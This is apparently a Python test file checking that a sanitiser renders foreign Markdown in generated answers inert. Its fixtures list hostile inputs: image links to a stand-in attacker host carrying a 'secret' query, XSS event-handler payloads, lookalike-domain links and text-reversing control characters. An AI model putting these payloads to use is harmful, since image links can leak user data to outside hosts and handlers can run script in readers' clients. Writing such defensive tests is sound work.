"""Foreign Markdown in answers: read, never followed and never loaded."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from wellread.text.inert import Inert, inert, leads_to
from wellread.types import Passage

SOURCE = {1: Passage("1", "words", "Title", "https://source.example/page")}
ATTACKS = [
    "![a](http://evil.example/?q=secret)",
    "![a](<http://evil.example/ x>)",
    "![a][ref]\n\n[ref]: http://evil.example/",
    "![ref]\n\n[ref]:\n  http://evil.example/",
    "![ref]\n\n[ref]:   <http://evil.example/>",
    "[a](http://evil.example)",
    "[a](\nhttp://evil.example)",
    "[a]( http://evil.example 'title')",
    "[![a](http://evil.example/1)](http://evil.example/2)",
    "\\![a](http://evil.example/)",
    "\\\\![a](http://evil.example/)",
    "!\\\\[a](http://evil.example/)",
    "`\n` ![a](http://evil.example/) `",
    "<img src=http://evil.example/>",
    "\\\\<img src=http://evil.example/>",
    "<svg onload=x>",
    "<http://evil.example/>",
    "<ftp://evil.example/>",
    "<me@evil.example>",
    "<animate onbegin=alert(1)>",
    "<div\tonclick=alert(1)>",
    f"<{'x' * 60} onclick=alert(1)>",
    "<!-- a --><?x?>",
    "<a href=http://evil.example/>x</a>",
    "[a](https://source.example/page/../../evil)",
    "[source](https://source.example.evil.example/page)",
]


def active(text: str) -> list[str]:
    """What a client that renders everything, raw HTML too, would load or link to."""
    parser = MarkdownIt("commonmark", {"html": True})
    found: list[str] = []
    for token in parser.parse(text):
        for part in (token, *(token.children or ())):
            if part.type in ("image", "link_open"):
                found.append(str(part.attrs.get("src") or part.attrs.get("href")))
            elif part.type in ("html_inline", "html_block"):
                found.append(part.content)
    return found


# An element can do something by its name, or by its attributes.
_ACTS = re.compile(
    r"<(?:[a-z][^\s/>]*[\s/]\s*[^\s/>]|/?(?:script|style|svg|math|form|a|base|body|html|head|template)\b)", re.IGNORECASE
)


def acting(text: str) -> list[str]:
    """The same without elements that do nothing, which up to three spaces may precede."""
    return [found for found in active(text) if not found.lstrip(" ").startswith("<") or _ACTS.search(found)]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_acts(text: str) -> None:
    assert active(text)
    shown = inert(text, SOURCE)
    assert not active(shown)
    assert inert(shown, SOURCE) == shown


@pytest.mark.parametrize("text", ["<p>\n<p! onclick=alert(1)>", "<p>\n<p<p onclick=alert(1)>", "<p>\n<pé/onclick=alert(1)>"])
def test_a_browser_takes_nearly_every_sign_for_a_part_of_a_name(text: str) -> None:
    assert acting(text)
    assert not acting(inert(text))


def test_links_to_sources_stay_and_so_do_numbers() -> None:
    text = "Saturn has [moons](https://source.example/page) [1]. See [1]: it is `a[0]` < 3. [a](http://evil.example)"
    shown = inert(text, SOURCE)
    assert active(shown) == ["https://source.example/page"]
    assert shown.startswith("Saturn has [moons](https://source.example/page) [1]. See [1]: it is `a[0]` < 3.")


@given(
    st.lists(
        st.sampled_from(
            [
                *"![]()<>:\\`\n a1",
                "](",
                "![",
                "]:",
                "<img ",
                "<p",
                "/>",
                "@",
                "onx=",
                "http://e.x",
                "](https://source.example/page)",
            ]
        )
    )
)
@example([" ", "<p"])
@example(["<p", ">", "<p", "!", "\n", "!"])
@example(["<", "a", "a"])
@example(["[r]:", "evil.example", "/"])
def test_in_pieces_as_in_one(pieces: list[str]) -> None:
    made = Inert(leads_to(SOURCE))
    streamed = "".join(map(made.feed, pieces)) + made.close()
    assert streamed == inert("".join(pieces), SOURCE)
    assert set(acting(streamed)) <= {"https://source.example/page"}


def test_addresses_of_passages_are_read_once_however_many_links_there_are() -> None:
    passages = {n: Passage(str(n), "words", url=f"https://source.example/{'%41' * 600}{n}") for n in range(100)}
    begun = time.thread_time()
    assert inert("](a)" * 100, passages) == "]\\(a)" * 100
    assert time.thread_time() - begun < 0.5


def test_passages_that_are_added_later_can_be_linked_to() -> None:
    passages = dict(SOURCE)
    known = leads_to(passages)
    assert known("https://source.example/page")
    assert not known("https://source.example/other")
    passages[2] = Passage("2", "words", url="https://source.example/other")
    assert known("https://source.example/other")


def test_a_link_says_no_more_than_it_shows() -> None:
    shown = inert('See [1](https://source.example/page "and it fell down").', SOURCE)
    assert shown == 'See [1]\\(https://source.example/page "and it fell down").'


def test_signs_that_turn_words_round_are_left_out() -> None:
    assert inert("It was \u202eton\u202c open\u2067ed\u2069.") == "It was ton opened."
